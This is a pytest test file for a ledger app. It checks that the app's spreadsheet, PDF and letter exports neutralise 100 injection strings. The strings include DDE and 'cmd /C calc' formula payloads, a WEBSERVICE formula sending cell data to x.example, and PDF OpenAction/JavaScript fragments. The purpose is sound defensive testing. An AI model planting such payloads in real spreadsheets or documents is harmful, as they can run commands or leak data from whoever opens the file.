"""A hundred texts that a spreadsheet might take for a formula or a PDF for a command, through every writer."""

import re
import zipfile
from collections.abc import Iterable, Iterator
from dataclasses import replace
from itertools import islice, product
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from pypdfium2 import PdfDocument, raw

from app.ledgers import excel, letter, pdf
from app.ledgers.cells import plain
from app.ledgers.fonts import unseen
from app.ledgers.letter import Letter, Par
from app.ledgers.page import Column, Kind, Page, Section, Total, Value
from app.ledgers.preview import Preview
from app.services.imports.findings import Finding, Outcome, SheetOutcome
from app.services.imports.marked import mark
from app.ui.widgets.list_paper import Listing, gather
from app.ui.widgets.sources import Ask, Rows
from app.ui.widgets.table import Column as Shown

_BEFORE = (
    "=",
    "+",
    "-",
    "@",
    "'=",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\ufeff=",
    "\u200b=",
    "＝",
    "＋",
    "－",
    "＠",
    '"=',
    "{=",
    "%=",
    ";=",
    ",=",
)
_AFTER = (
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://x.example\",\"点我\")", "WEBSERVICE(\"http://x.example/\"&A1)",
    "DDE(\"cmd\";\"/C calc\";\"a\")",
)  # fmt: skip
_OTHERS = (
    "&P &F &[Path]", "]]><f>1+1</f>", "<v>1</v>&#61;1", "_x003D_1+1", "javascript:alert(1)", "(\\) Tj ET",
    ")>>/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
    "%PDF-1.7 /Launch", "endstream endobj", "EMC BT /F1 9 Tf",
)  # fmt: skip
PAYLOADS = (*_OTHERS, *islice((before + after for after, before in product(_AFTER, _BEFORE)), 90))
KINDS: tuple[Kind, ...] = ("text", "multiline", "code", "number", "percent", "date", "moment")


def cells(path: Path) -> Iterator[Any]:
    for sheet in load_workbook(path, rich_text=False).worksheets:
        for row in sheet.iter_rows():
            yield from row


def harmless(path: Path) -> None:
    """No cell is a formula, no part of the file leads outside or carries a program."""
    assert {cell.data_type for cell in cells(path) if cell.value is not None} <= {"s", "n", "d"}
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            assert not re.search(r"external|vba|activeX|embeddings|connections|queryTable", name), name
            content = archive.read(name)
            assert b"<f>" not in content and b"<f " not in content and b'TargetMode="External"' not in content, name


def bare(text: str) -> str:
    return "".join(char for char in text if not unseen(char) and not char.isspace())


def test_there_are_a_hundred_of_them() -> None:
    assert len(set(PAYLOADS)) == 100


def test_cells_of_every_kind_hold_text(tmp_path: Path) -> None:
    columns = tuple(Column(PAYLOADS[n], f"c{n}", 20, kind=kind, choices=PAYLOADS) for n, kind in enumerate(KINDS))
    rows = tuple((text,) * len(KINDS) for text in PAYLOADS)
    totals = tuple(Total((text,) * len(KINDS)) for text in PAYLOADS)
    page = Page("台账", columns, (*rows, *map(Section, PAYLOADS), *totals), totals=totals, notes=PAYLOADS)
    excel.write(page, tmp_path / "a.xlsx")
    harmless(tmp_path / "a.xlsx")
    sheet = load_workbook(tmp_path / "a.xlsx").worksheets[0]
    for n, text in enumerate(PAYLOADS):
        kept = {sheet.cell(4 + n, column).value for column in range(1, len(KINDS) + 1)}
        assert kept == {plain(text).replace("_x003D_", "_x005F_x003D_")}


def test_words_around_the_table_hold_text(tmp_path: Path) -> None:
    column = Column("甲", "a", 40)
    pages = [
        Page(text, (replace(column, title=text, group=text), column), ((text, 1),), text, text, number=text, marks=_marks(text))
        for text in PAYLOADS
    ]  # fmt: skip
    excel.write(pages, tmp_path / "a.xlsx")
    harmless(tmp_path / "a.xlsx")
    book = load_workbook(tmp_path / "a.xlsx")
    titles = [str(sheet["A1"].value) for sheet in book.worksheets]
    assert titles[10:] == [plain(text).replace("\r", "\n") for text in PAYLOADS[10:]]
    assert str(book.worksheets[0].oddFooter.right.text) == "&&P &&F &&Z"


def _marks(text: str) -> tuple[tuple[str, str], ...]:
    return (("Edition", text),) if text.isprintable() else ()


def test_a_list_taken_away_holds_text(tmp_path: Path) -> None:
    class Now:
        def read(self, work: Any) -> Any:
            return work(None)

        def __call__(self, *told: object) -> None:
            pass

    class Row:
        def __init__(self, text: str) -> None:
            self.text = text

    held = [Row(text) for text in PAYLOADS]
    source = Rows(lambda _s, ask: held[ask.offset : ask.offset + ask.limit], lambda _s, _ask: len(held))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("app.ledgers.scope.Scope.name", lambda _self, _s: PAYLOADS[10])
        listing = Listing(PAYLOADS[11], (Shown(PAYLOADS[12], "text"),), (100,), Ask(), source)
        page = gather(Now(), listing, "/").page  # type: ignore[arg-type]
    excel.write(page, tmp_path / "a.xlsx")
    harmless(tmp_path / "a.xlsx")
    assert {plain(text) for text in PAYLOADS[10:]} <= {cell.value for cell in cells(tmp_path / "a.xlsx")}


def test_the_marked_copy_of_an_import_holds_text(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "+1"
    for n, text in enumerate(PAYLOADS, 1):
        cell = sheet.cell(n, 1, "a")
        cell.value, cell.data_type = plain(text), "s"
    name = "=1+1.xlsx"
    book.save(tmp_path / name)
    findings = [
        Finding(name, "+1", n, "A", None, "E_ID_FORMAT", text, {"text": text}) for n, text in enumerate(PAYLOADS, 1)
    ]
    made = SheetOutcome("+1", "roster", (1,), {}, warnings=tuple(findings))
    mark(tmp_path / name, Outcome(name, "", (made,)), tmp_path / "b.xlsx")
    harmless(tmp_path / "b.xlsx")


def commands(document: bytes) -> None:
    """Nothing in the PDF does anything by itself."""
    with PdfDocument(document) as paper:
        assert raw.FPDFDoc_GetJavaScriptActionCount(paper) == 0
        assert raw.FPDFDoc_GetAttachmentCount(paper) == 0
        for index in range(len(paper)):
            page = paper[index]
            assert raw.FPDFPage_GetAnnotCount(page) == 0
            page.close()
    outside = re.sub(rb"\((?:\\.|[^\\()])*\)|stream\r?\n.*?endstream", b"", document, flags=re.S)
    assert not re.search(
        rb"/(?:JavaScript|JS|Launch|URI|OpenAction|AA|SubmitForm|GoToR|EmbeddedFile|RichMedia)\b", outside
    )


def whole(document: bytes) -> str:
    with Preview(document) as preview:
        return bare("".join(preview.text(n) for n in range(len(preview))))


def test_paper_holds_text() -> None:
    columns: tuple[Column, ...] = (Column("甲", "a", 90), Column("乙", "b", 90, kind="code"))
    rows: Iterable[tuple[Value, ...]] = ((text, text) for text in PAYLOADS)
    pages = [Page("台账", columns, tuple(rows), notes=PAYLOADS, landscape=True)]
    pages += [
        Page(text, columns, ((text, 1), Section(text)), text, text, number=text, marks=_marks(text))
        for text in PAYLOADS
    ]
    document = pdf.document(pages)
    commands(document)
    text = whole(document)
    assert [payload for payload in PAYLOADS if bare(payload) not in text] == []


@pytest.mark.parametrize("payload", [PAYLOADS[6], "=(((", "\\", ")"])
def test_the_facts_of_a_document_hold_text(payload: str) -> None:
    document = pdf.document(Page(payload, (Column("a", "a"),), (), payload, payload, marks=_marks(payload)))
    commands(document)
    with PdfDocument(document) as paper:
        assert {paper.get_metadata_value(key) for key in ("Title", "Author", "Subject", "Fengge.Edition")} == {payload}


def test_letters_hold_text() -> None:
    made = Letter(PAYLOADS[10], PAYLOADS[6], PAYLOADS[11], PAYLOADS[12], tuple(map(Par, PAYLOADS)))
    document, _written = letter.drawn(made)
    commands(document)
    text = whole(document)
    assert [payload for payload in PAYLOADS if bare(payload) not in text] == []
